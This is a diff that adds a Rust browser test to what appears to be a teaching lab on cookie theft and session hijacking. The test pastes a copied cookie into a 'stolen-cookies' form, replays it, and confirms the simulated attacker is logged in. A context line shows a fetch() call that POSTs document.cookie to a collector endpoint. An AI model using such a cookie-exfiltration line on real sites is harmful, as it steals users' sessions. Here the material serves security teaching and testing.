@@ -603,3 +603,37 @@ fetch(post.dataset.collector, {method: "POST", body: "found: " + document.cookie
         student.finish().await;
     });
 }
+
+/// The hijack lesson as a student does it: copy the whole "JavaScript can read" pane, paste it,
+/// replay. The paste is still there after the page reloads, so the next replay needs no copy.
+#[test]
+#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
+fn a_student_replays_the_pane_exactly_as_copied() {
+    block_on(async {
+        let server = server();
+        let chrome = Chrome::start(1366, 900).await;
+        chrome.log_in_to(&server, &["cookie"]).await;
+        let pane = chrome.wait_for_text("#js-cookie", "password=1234").await;
+        assert!(pane.starts_with("document.cookie"), "the whole pane: {pane:?}");
+        chrome.client.goto(&server.url("/lab/hijack")).await.unwrap();
+        chrome
+            .client
+            .find(Locator::Css("#stolen-cookies"))
+            .await
+            .unwrap()
+            .send_keys(&pane)
+            .await
+            .unwrap();
+        chrome.click("form[action='/lab/hijack/replay-cookie'] button").await;
+        chrome
+            .wait_for_text("#attacker", "The attacker is logged in as abc.")
+            .await;
+        let kept = chrome
+            .client
+            .execute("return document.getElementById('stolen-cookies').value", vec![])
+            .await
+            .unwrap();
+        assert!(kept.as_str().unwrap_or_default().contains("password=1234"), "{kept}");
+        chrome.finish().await;
+    });
+}
